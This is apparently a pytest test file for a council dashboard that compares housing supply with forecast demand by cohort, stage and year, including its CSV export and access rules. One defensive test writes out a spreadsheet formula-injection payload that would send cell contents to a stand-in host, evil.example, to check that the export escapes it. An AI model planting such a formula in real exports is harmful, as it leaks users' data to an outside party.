"""Commissioners see supply against the strategy's forecast demand: per cohort, in
totals, by stage and over time; as a page with a chart and tables, and as CSV.

Expected figures are worked out by hand from rules/policy/2026-04-01.yaml. Its
pipeline counts, in order and up to each cohort's need: Units for SEND 8 (send
transitions, 2022), Step down 27 (mental health, 2022), Blackbird Road 6 (waiting
list, 2022), the identified extra care site 50 (sheltered tenants 50 of 57, none
left for the housing register, 2026), Respite 8 and Transforming Care 8 (2026),
Ashton Green 70 (diversion from residential, 2030): 177 in all. Hamelin Road and
Tilling Road (155) count against no cohort.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest

from rules.policy_data import POLICY_DIR
from tests import factories
from tests.factories import soup, text
from triage import clock, db
from triage.csv_export import csv_text, safe_cell
from triage.models import Offer, OfferCohort, User
from triage.models.offers import OFFER_STATUS_LABELS, OfferStatus, share_units
from triage.services import scoring, supply

DASHBOARD = "/queue/dashboard"
CSV = "/queue/dashboard.csv"

DIVERSION = "Diversion from residential care (working age and older people)"
MENTAL_HEALTH = "Mental health inpatient discharges (step down)"
WAITING_LIST = (
    "People on the supported living waiting list (older people; working age with LD, AMH, PD)"
)
SHELTERED_TENANTS = "Council tenants in sheltered housing known to social care"
HOUSING_REGISTER = "People on the housing register awaiting sheltered accommodation (over 60)"
REPLACEMENT = "Replacement of shared housing (learning disability) and ex-sheltered schemes"

# Forecast, planned schemes, approved, under review, remaining: before any offer.
NOTHING_OFFERED = {
    MENTAL_HEALTH: [27, 27, 0, 0, 0],
    "Transforming Care and Ministry of Justice": [8, 8, 0, 0, 0],
    DIVERSION: [80, 70, 0, 0, 10],
    WAITING_LIST: [18, 6, 0, 0, 12],
    HOUSING_REGISTER: [15, 0, 0, 0, 15],
    SHELTERED_TENANTS: [57, 50, 0, 0, 7],
    "Respite for people with complex disabilities": [8, 8, 0, 0, 0],
    REPLACEMENT: [160, 0, 0, 0, 160],
    "Young people in transition (SEND) eligible for adult social care": [8, 8, 0, 0, 0],
    "Looked after children aged 16 to 17": [4, 0, 0, 0, 4],
    "Care leavers aged 18 to 25 not needing adult social care": [11, 0, 0, 0, 11],
    "All cohorts": [396, 177, 0, 0, 219],
}


def table(response, table_id: str) -> dict[str, list[str]]:
    """A table as its row headings, each with the cells that follow."""
    found = soup(response).find("table", id=table_id)
    assert found is not None, f"no table #{table_id}"
    rows = {}
    for row in found.select("tbody tr"):
        heading = row.find("th").get_text(" ", strip=True)
        rows[heading] = [cell.get_text(" ", strip=True) for cell in row.find_all("td")]
    return rows


PLACEMENT_COLUMNS = ("Placed in existing schemes", "People waiting now")


def need_numbers(response) -> dict[str, list[int]]:
    """The need table's supply columns (forecast, planned, approved, under review,
    remaining), without the placement team's columns, tested in tests/placement."""
    found = soup(response).find("table", id="need-table")
    headings = [cell.get_text(strip=True) for cell in found.select("thead th")][1:]
    keep = [index for index, name in enumerate(headings) if name not in PLACEMENT_COLUMNS]
    return {
        heading: [cells[index] for index in keep]
        for heading, cells in numbers(table(response, "need-table")).items()
    }


def numbers(rows: dict[str, list[str]]) -> dict[str, list[int]]:
    return {heading: [int(cell) for cell in cells] for heading, cells in rows.items()}


def summary(response) -> dict[str, str]:
    page = soup(response)
    return {
        row.select_one(".govuk-summary-list__key").get_text(" ", strip=True): row.select_one(
            ".govuk-summary-list__value"
        ).get_text(" ", strip=True)
        for row in page.select(".govuk-summary-list__row")
    }


def offer_for(app, submitter, cohorts: list[str], units: int = 8, status=None, **overrides):
    """A submitted offer of `units` one-bed flats for `cohorts`; with `status`, moved
    to it in the database (the decision pages are tested elsewhere). Its units are
    shared between its cohorts again, as submission shares them."""
    offer = factories.submitted_offer(submitter, **overrides)
    with app.app_context():
        found = db.session.get(Offer, offer.id)
        found.unit_types[0].count = units
        found.cohorts = [OfferCohort(cohort=code) for code in cohorts]
        if status is not None:
            found.status = status
        db.session.flush()
        db.session.execute(share_units([offer.id]))
        db.session.commit()
    return offer


def set_times(app, offer, **times: datetime) -> None:
    with app.app_context():
        found = db.session.get(Offer, offer.id)
        for name, value in times.items():
            setattr(found, name, value)
        db.session.commit()


# --- Need by cohort -----------------------------------------------------------------


def test_before_any_offer_the_figures_are_the_strategys(staff_client):
    response = staff_client.get(DASHBOARD)
    assert response.status_code == 200
    assert factories.heading(response) == "Supply against demand"
    assert need_numbers(response) == NOTHING_OFFERED
    figures = summary(response)
    assert figures["Forecast net need"] == "396 units"
    assert figures["Confirmed schemes in addition to the forecast"] == (
        "155 units (Extra care at Hamelin Road, Extra care at Tilling Road)"
    )
    assert figures["Planned schemes counted against the forecast"] == "177 units"
    assert figures["To be sought from the open market (strategy)"] == (
        "219 units: the forecast less planned schemes"
    )
    assert figures["Still unmet now"] == (
        "219 units, against the 219 units the strategy seeks from the open market"
    )


def test_approved_offers_meet_need_and_open_offers_are_under_review(app, staff_client, submitter):
    offer_for(app, submitter, ["diversion_from_residential"], 8, OfferStatus.APPROVED)
    offer_for(app, submitter, ["diversion_from_residential"], 5)  # submitted: under review
    offer_for(app, submitter, ["diversion_from_residential"], 3, OfferStatus.SCORING_FAILED)
    offer_for(app, submitter, ["diversion_from_residential"], 6, OfferStatus.WITHDRAWN)
    factories.complete_offer(submitter)  # a draft counts for nothing
    response = staff_client.get(DASHBOARD)
    rows = need_numbers(response)
    assert rows[DIVERSION] == [80, 70, 8, 8, 2]
    assert rows["All cohorts"] == [396, 177, 8, 8, 211]
    assert rows[MENTAL_HEALTH] == NOTHING_OFFERED[MENTAL_HEALTH]
    figures = summary(response)
    assert figures["In approved offers"] == "8 units"
    assert figures["In offers under review"] == "8 units"
    assert figures["Still unmet now"] == (
        "211 units, against the 219 units the strategy seeks from the open market"
    )


def test_remaining_need_never_goes_below_nothing(app, staff_client, submitter):
    offer_for(app, submitter, ["diversion_from_residential"], 25, OfferStatus.APPROVED)
    rows = need_numbers(staff_client.get(DASHBOARD))
    assert rows[DIVERSION] == [80, 70, 25, 0, 0]
    # The 15 units beyond the cohort's need meet no other cohort's.
    assert rows["All cohorts"] == [396, 177, 25, 0, 209]


def test_an_offer_for_several_cohorts_shares_its_units_as_scoring_does(
    app, staff_client, submitter
):
    # 9 units for two cohorts: 5 and 4, the extra unit to the first code in order.
    offer_for(
        app,
        submitter,
        ["supported_living_waiting_list", "diversion_from_residential"],
        9,
        OfferStatus.APPROVED,
    )
    rows = need_numbers(staff_client.get(DASHBOARD))
    assert rows[DIVERSION] == [80, 70, 5, 0, 5]
    assert rows[WAITING_LIST] == [18, 6, 4, 0, 8]
    with app.app_context():
        assert scoring.approved_units_by_cohort() == {
            "diversion_from_residential": 5,
            "supported_living_waiting_list": 4,
        }


# --- Offers by stage (the times: tests/test_stage_times.py) -------------------------


def test_offers_are_counted_by_the_stage_they_are_in_now(app, staff_client, submitter):
    for _ in range(3):
        offer_for(app, submitter, ["diversion_from_residential"])
    withdrawn = offer_for(app, submitter, ["diversion_from_residential"])
    with app.app_context():
        from triage.services.offers import withdraw

        withdraw(db.session.get(Offer, withdrawn.id), db.session.get(User, submitter.id))
    offer_for(app, submitter, ["diversion_from_residential"], status=OfferStatus.APPROVED)
    factories.complete_offer(submitter)  # a draft is no stage of a submitted offer

    rows = table(staff_client.get(DASHBOARD), "stages-table")
    # Every stage an offer can reach once submitted, with the service's own labels.
    expected = [label for status, label in OFFER_STATUS_LABELS.items() if status != "draft"]
    assert list(rows) == expected
    assert {label: cells[0] for label, cells in rows.items() if cells[0] != "0"} == {
        "Submitted": "3",
        "Withdrawn": "1",
        "Approved in principle": "1",
    }
    # Only the withdrawn offer has left Submitted (at once); the others are still there.
    assert rows["Submitted"][1:] == ["Less than a day", "Offers that have left this stage: 1"]
    assert rows["Withdrawn"][1:] == ["Not timed", "A final stage: offers stay in it"]


# --- When units are expected ---------------------------------------------------------


def test_the_timeline_counts_units_by_year_against_the_need(app, staff_client, submitter):
    offer_for(
        app,
        submitter,
        ["diversion_from_residential"],
        8,
        OfferStatus.APPROVED,
        date_available=date(2027, 9, 1),
    )
    response = staff_client.get(DASHBOARD)
    by_cohort = numbers(table(response, "cohort-timeline-table"))
    headings = [
        th.get_text(strip=True)
        for th in soup(response).select("#cohort-timeline-table th[scope=col]")
    ]
    assert headings == [
        "Cohort",
        "Forecast net need",
        "By the end of 2022",
        "By the end of 2026",
        "By the end of 2027",
        "By the end of 2030",
        "Still unmet",
    ]
    # Need, then expected by 2022, 2026, 2027 (the offer), 2030 (Ashton Green), unmet.
    assert by_cohort[DIVERSION] == [80, 0, 0, 8, 78, 2]
    assert by_cohort[SHELTERED_TENANTS] == [57, 0, 50, 50, 50, 7]
    assert by_cohort[MENTAL_HEALTH] == [27, 27, 27, 27, 27, 0]
    assert by_cohort[REPLACEMENT] == [160, 0, 0, 0, 0, 160]
    assert by_cohort["All cohorts"] == [396, 41, 107, 115, 185, 211]
    # All cohorts: planned, approved, expected, need, still unmet.
    assert numbers(table(response, "timeline-table")) == {
        "By the end of 2022": [41, 0, 41, 396, 355],
        "By the end of 2026": [107, 0, 107, 396, 289],
        "By the end of 2027": [107, 8, 115, 396, 281],
        "By the end of 2030": [177, 8, 185, 396, 211],
    }


def test_the_figures_follow_a_change_that_keeps_the_offers_status(app, staff_client, submitter):
    """The figures are reused while nothing they come from changes: an edit to an
    offer (its version goes up) makes them be worked out again."""
    offer = offer_for(app, submitter, ["diversion_from_residential"], 8, OfferStatus.APPROVED)
    before = numbers(table(staff_client.get(DASHBOARD), "timeline-table"))
    assert "By the end of 2027" in before
    set_times(app, offer, date_available=date(2029, 6, 1))
    after = numbers(table(staff_client.get(DASHBOARD), "timeline-table"))
    assert "By the end of 2027" not in after
    assert after["By the end of 2029"][1] == 8


@pytest.mark.parametrize(
    ("period", "year"),
    [("up to 2022", 2022), ("2022 to 2026", 2026), ("2026 to 2030", 2030), ("soon", None)],
)
def test_a_pipeline_phase_counts_from_the_last_year_of_its_period(period, year):
    assert supply.period_year(period) == year


# --- The charts -----------------------------------------------------------------------


def test_each_chart_is_an_image_with_a_name_and_the_tables_figures(app, staff_client, submitter):
    offer_for(app, submitter, ["diversion_from_residential"], 8, OfferStatus.APPROVED)
    response = staff_client.get(DASHBOARD)
    page = soup(response)
    charts = page.select("main svg")
    assert len(charts) == 2
    for chart in charts:
        assert chart["role"] == "img"
        name = page.find(id=chart["aria-labelledby"])
        description = page.find(id=chart["aria-describedby"])
        assert name is not None and name.name == "title" and name.get_text(strip=True)
        assert description is not None and description.name == "desc"
        assert "The table that follows gives every figure" in description.get_text()
    # Drawn with presentation attributes: nothing a strict style-src would block.
    assert page.select("[style]") == []
    assert page.select("script:not([src])") == page.select("script[nonce]")

    need_chart, timeline_chart = charts
    rows = need_numbers(response)
    assert (
        "396 units are needed: 177 in planned schemes, 8 in approved offers, 211 still unmet"
        in (" ".join(need_chart.find("desc").get_text().split()))
    )
    labels = [label.get_text() for label in need_chart.select("text[font-weight=bold]")]
    figures = [
        label.find_next_sibling("text", attrs={"font-weight": None}).get_text()
        for label in need_chart.select("text[font-weight=bold]")
    ]
    for label, shown in zip(labels, figures, strict=True):
        forecast, _pipeline, _approved, _review, remaining = rows[label]
        assert shown == f"{forecast} needed, {remaining} unmet"
    assert len(labels) == len(rows) - 1  # every cohort; the total is in the description
    # The diversion bar: 70 planned, 8 approved, 2 unmet, on one scale (160 units is 640).
    diversion = need_chart.find("text", string=DIVERSION)
    bar = [rect for rect in diversion.find_next_siblings("rect")][:3]
    assert [float(rect["width"]) for rect in bar] == [280.0, 32.0, 8.0]
    assert [rect["fill"] for rect in bar] == ["#1d70b8", "#00703c", "#d4351c"]

    timeline = numbers(table(response, "timeline-table"))
    shown = [text.get_text() for text in timeline_chart.select("text:not([font-weight])")][3:]
    assert shown == [
        f"{expected} expected, {short} short"
        for _planned, _approved, expected, _need, short in timeline.values()
    ]


# --- CSV --------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    """The rows, after the byte-order mark every CSV download starts with (so
    Excel reads it as UTF-8)."""
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_figures_download_as_csv(app, staff_client, submitter):
    offer_for(app, submitter, ["diversion_from_residential"], 8, OfferStatus.APPROVED)
    offer_for(app, submitter, ["diversion_from_residential"], 5)
    response = factories.fetch(staff_client, CSV)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert (
        disposition == f'attachment; filename="supply-and-demand-{clock.today_uk():%Y-%m-%d}.csv"'
    )
    rows = read_csv(response)
    assert rows[0] == [
        "Cohort code",
        "Cohort",
        "Forecast net need",
        "Planned scheme units",
        "Approved offer units",
        "Units in offers under review",
        "People placed in existing schemes",
        "People waiting now",
        "Remaining unmet need",
    ]
    need = rows[: rows.index([])]
    by_code = {row[0]: row for row in need}
    assert by_code["diversion_from_residential"] == [
        "diversion_from_residential",
        DIVERSION,
        "80",
        "70",
        "8",
        "5",
        "0",
        "0",
        "2",
    ]
    assert by_code["total"] == ["total", "All cohorts", "396", "177", "8", "5", "0", "0", "211"]
    figures = {row[0]: row[1] for row in rows if len(row) == 2}
    assert figures["Forecast net need"] == "396"
    assert figures["To be sought from the open market (forecast less planned schemes)"] == "219"
    assert figures["Remaining unmet need now"] == "211"
    stages = {row[0]: row[1:] for row in rows if len(row) == 4}
    assert stages["Submitted"][0] == "1"
    assert stages["Approved in principle"][0] == "1"
    header = next(row for row in rows[1:] if row and row[0] == "Cohort code")
    assert header[3:] == [
        "Expected by the end of 2022 (cumulative)",
        "Expected by the end of 2026 (cumulative)",
        "Expected by the end of 2027 (cumulative)",
        "Expected by the end of 2030 (cumulative)",
        "Unmet by the end of 2022",
        "Unmet by the end of 2026",
        "Unmet by the end of 2027",
        "Unmet by the end of 2030",
    ]
    timeline = [
        row for row in rows[rows.index(header) :] if row and row[0] == "diversion_from_residential"
    ]
    assert timeline == [
        ["diversion_from_residential", DIVERSION, "80", "0", "0", "8", "78", "80", "80", "72", "2"]
    ]


def test_a_formula_in_the_policy_is_not_run_by_a_spreadsheet(app, admin, staff_client):
    """No offer's free text is in the CSV; the policy's labels are, and an admin
    can change them. A label that is a formula is written as text."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    shipped = (POLICY_DIR / "2026-04-01.yaml").read_text(encoding="utf-8")
    text_ = shipped.replace('version: "2026-04-01"', 'version: "2026-04-02"').replace(
        "label: Looked after children aged 16 to 17", f"label: '{formula}'"
    )
    with app.app_context():
        from triage.services import policy_admin

        row = policy_admin.load_version(text_, "policy.yaml", db.session.get(User, admin.id))
        policy_admin.activate(row)
    rows = read_csv(factories.fetch(staff_client, CSV))
    cohort = next(row for row in rows if row[0] == "looked_after_16_17")
    assert cohort[1] == "'" + formula
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert formula in text(staff_client.get(DASHBOARD))  # shown as text on the page


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_other_cells_are_written_as_they_are():
    assert safe_cell("Diversion - residential") == "Diversion - residential"
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert csv_text([["=1+1", -3, "a,b"]]) == '\'=1+1,-3,"a,b"\r\n'


# --- Who sees it ------------------------------------------------------------------------


def navigation(response):
    return soup(response).select(".govuk-service-navigation__list a.govuk-service-navigation__link")


@pytest.mark.parametrize("role", ["commissioner", "placement_officer", "admin"])
def test_staff_see_it_from_the_navigation(app, role):
    client = factories.signed_in_client(app, factories.staff(role))
    links = {a.get_text(strip=True): a for a in navigation(client.get("/queue"))}
    assert links["Supply and demand"]["href"] == DASHBOARD
    assert links["Supply and demand"].get("aria-current") is None
    current = [a for a in navigation(client.get(DASHBOARD)) if a.get("aria-current")]
    assert [a.get_text(strip=True) for a in current] == ["Supply and demand"]
    assert factories.fetch(client, CSV).status_code == 200


def test_submitters_do_not_find_it(app, submitter_client):
    for url in (DASHBOARD, CSV):
        response = submitter_client.get(url)
        assert response.status_code == 404
        assert factories.heading(response) == "Page not found"
    assert "Supply and demand" not in text(submitter_client.get("/offers"))


def test_anyone_not_signed_in_is_sent_to_sign_in(client):
    for url in (DASHBOARD, CSV):
        response = client.get(url)
        assert response.status_code == 302
        assert response.location.startswith("/sign-in?next=")
